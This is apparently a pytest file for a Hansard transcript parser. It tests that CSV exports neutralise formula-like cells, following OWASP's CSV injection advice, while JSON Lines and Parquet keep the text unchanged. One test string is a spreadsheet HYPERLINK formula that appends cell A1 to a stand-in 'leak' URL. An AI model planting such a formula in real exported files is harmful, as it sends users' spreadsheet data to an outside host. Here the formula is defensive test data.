"""CSV is opened in spreadsheets: cells that would run as formulas are neutralised by
default (OWASP's CSV injection advice), while Parquet and JSON Lines keep the text as is."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from helpers import FIXTURES
from hypothesis import given
from hypothesis import strategies as st

from hansard_parse import contribution_rows, parse_file, write_csv
from hansard_parse.cli import main
from hansard_parse.tabular import FORMULA_STARTS, neutralise_formulas

FORMULAS = FIXTURES / "hostile" / "formulas.print.txt"
TEXTS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Read the report")',
    "+44 is the dialling code she will need, and the helpline is open all week.",
    "-1 is what the fund will be worth next year if nothing changes.",
    "@the_department answers these questions every morning.",
    "I thank the Minister for that answer.",
]


def _csv_texts(path: Path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as handle:
        return [row["text"] for row in csv.DictReader(handle)]


def test_csv_cells_that_look_like_formulas_get_a_quote(tmp_path: Path) -> None:
    rows = contribution_rows(parse_file(FORMULAS), source="formulas.txt")
    assert [row["text"] for row in rows] == TEXTS
    write_csv(rows, tmp_path / "rows.csv")
    assert _csv_texts(tmp_path / "rows.csv") == ["'" + text for text in TEXTS[:4]] + TEXTS[4:]


def test_csv_can_be_written_raw(tmp_path: Path) -> None:
    rows = contribution_rows(parse_file(FORMULAS))
    write_csv(rows, tmp_path / "rows.csv", escape_formulas=False)
    assert _csv_texts(tmp_path / "rows.csv") == TEXTS


@given(st.text(max_size=30))
def test_a_neutralised_cell_never_starts_a_formula(text: str) -> None:
    cell = neutralise_formulas({"text": text})["text"]
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


def test_batch_csv_is_neutralised_unless_asked_raw(tmp_path: Path) -> None:
    assert main(["batch", str(FORMULAS), "-o", str(tmp_path / "safe"), "--format", "csv", "-q"]) == 0
    assert _csv_texts(tmp_path / "safe" / "formulas.print.csv")[0] == "'" + TEXTS[0]
    raw = tmp_path / "raw"
    assert main(["batch", str(FORMULAS), "-o", str(raw), "--format", "csv", "--csv-raw", "-q"]) == 0
    assert _csv_texts(raw / "formulas.print.csv") == TEXTS


def test_changing_csv_raw_redoes_the_files(tmp_path: Path) -> None:
    out = str(tmp_path / "out")
    assert main(["batch", str(FORMULAS), "-o", out, "--format", "csv", "-q"]) == 0
    assert main(["batch", str(FORMULAS), "-o", out, "--format", "csv", "--csv-raw", "-q"]) == 0
    assert _csv_texts(tmp_path / "out" / "formulas.print.csv")[0] == TEXTS[0]
    summary = json.loads((tmp_path / "out" / "_summary.json").read_text(encoding="utf-8"))
    assert (summary["parsed"], summary["settings"]["csv_raw"]) == (1, True)


def test_json_lines_and_parquet_keep_the_text(tmp_path: Path) -> None:
    assert main(["batch", str(FORMULAS), "-o", str(tmp_path), "--format", "jsonl", "-q"]) == 0
    lines = (tmp_path / "formulas.print.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["text"] for line in lines] == TEXTS
    parquet = pytest.importorskip("pyarrow.parquet")
    assert main(["batch", str(FORMULAS), "-o", str(tmp_path), "--format", "parquet", "-q"]) == 0
    assert parquet.read_table(tmp_path / "formulas.print.parquet").column("text").to_pylist() == TEXTS
